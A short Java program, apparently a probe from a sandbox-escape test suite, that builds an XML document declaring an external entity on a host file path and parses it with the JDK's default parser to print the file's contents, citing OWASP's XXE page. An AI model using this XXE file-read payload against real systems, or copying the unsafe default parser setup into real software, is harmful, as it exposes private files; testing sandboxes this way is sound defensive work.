package escape.files;

import java.io.File;
import java.io.StringReader;
import javax.xml.parsers.DocumentBuilderFactory;
import org.w3c.dom.Document;
import org.xml.sax.InputSource;

/**
 * XML external entity (XXE): parses a document that declares an external entity on FILE and uses
 * it, with the JDK's default {@code DocumentBuilderFactory}. The JDK's parser reads the host file and
 * the guest prints what it got.
 *
 * <p>Source: OWASP, XML External Entity (XXE) Processing,
 * https://owasp.org/www-community/vulnerabilities/XML_External_Entity_(XXE)_Processing
 */
public final class XxeRead {

    private XxeRead() {
    }

    public static void main(String[] args) {
        String xml = "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"" + new File(args[0]).toURI()
                + "\">]><x>&e;</x>";
        try {
            Document doc = DocumentBuilderFactory.newInstance().newDocumentBuilder()
                    .parse(new InputSource(new StringReader(xml)));
            System.out.println("read-xxe: the entity expanded to: " + doc.getDocumentElement().getTextContent().trim());
        } catch (Throwable t) {
            System.out.println("read-xxe: " + t);
        }
    }
}
